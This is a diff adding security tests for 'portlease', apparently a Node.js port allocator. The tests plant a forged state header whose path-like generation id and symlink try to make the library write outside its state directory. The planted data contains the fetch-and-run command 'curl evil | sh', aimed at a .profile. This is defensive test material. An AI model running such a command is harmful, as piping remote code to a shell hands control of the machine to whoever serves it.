@@ -1,13 +1,61 @@
 import { execFileSync, spawnSync } from 'node:child_process';
-import { symlinkSync } from 'node:fs';
+import { existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { PortAllocator, StateIoError } from '../src/index.js';
 import { statePaths } from '../src/state-dir.js';
+import { currentBootId } from '../src/liveness.js';
 import { freeRunBase, makeStateDir } from './helpers.js';
 
 // Anyone who can write a shared state directory could plant a FIFO or a device where
 // portlease expects a file. Opening one for reading would block forever, deaf to signals.
 const hasMkfifo = process.platform !== 'win32' && spawnSync('mkfifo', ['--version'], { stdio: 'ignore' }).status === 0;
+
+describe('planted headers', () => {
+  let stateDir: string;
+  let cleanup: () => void;
+  beforeEach(() => ({ dir: stateDir, cleanup } = makeStateDir()));
+  afterEach(() => cleanup());
+
+  it('a generation id that is a path never makes portlease write outside the state directory', async () => {
+    const stateFile = statePaths(stateDir).stateFile;
+    const elsewhere = join(stateDir, 'elsewhere');
+    mkdirSync(elsewhere);
+    // Someone in the group plants a header whose generation id walks out through a symlink,
+    // and a damaged record so that a copy would be kept.
+    symlinkSync(elsewhere, `${stateFile}.damaged-x`);
+    const bootId = currentBootId();
+    writeFileSync(stateFile, `${JSON.stringify({ version: 3, gen: 'x/.profile', ...(bootId ? { bootId } : {}), claims: [{}] })}\ncurl evil | sh\n`);
+    const onWarning = () => undefined;
+    process.on('warning', onWarning);
+    try {
+      const lease = await new PortAllocator({ stateDir }).claim({ base: await freeRunBase(1) });
+      await lease.release();
+    } finally {
+      process.off('warning', onWarning);
+    }
+    expect(readdirSync(elsewhere)).toEqual([]);
+    expect(readdirSync(stateDir).filter((name) => name.includes('.corrupt-'))).toHaveLength(1); // malformed: set aside
+  });
+
+  it('a header whose raw bytes do not begin as portlease writes them is set aside, not left to jam every claim', async () => {
+    const stateFile = statePaths(stateDir).stateFile;
+    const bootId = currentBootId();
+    // Valid JSON, but with a space: the generation could not be read back from the raw bytes.
+    writeFileSync(stateFile, `{"version":3, "gen":"abc"${bootId ? `,"bootId":"${bootId}"` : ''},"claims":[]}\n`);
+    const onWarning = () => undefined;
+    process.on('warning', onWarning);
+    try {
+      const base = await freeRunBase(1);
+      const lease = await new PortAllocator({ stateDir }).claim({ base });
+      expect(lease.port).toBe(base);
+      await lease.release();
+    } finally {
+      process.off('warning', onWarning);
+    }
+    expect(existsSync(stateFile)).toBe(true);
+  });
+});
 
 describe.skipIf(!hasMkfifo)(`planted files${hasMkfifo ? '' : ' (skipped: no mkfifo)'}`, () => {
   let stateDir: string;
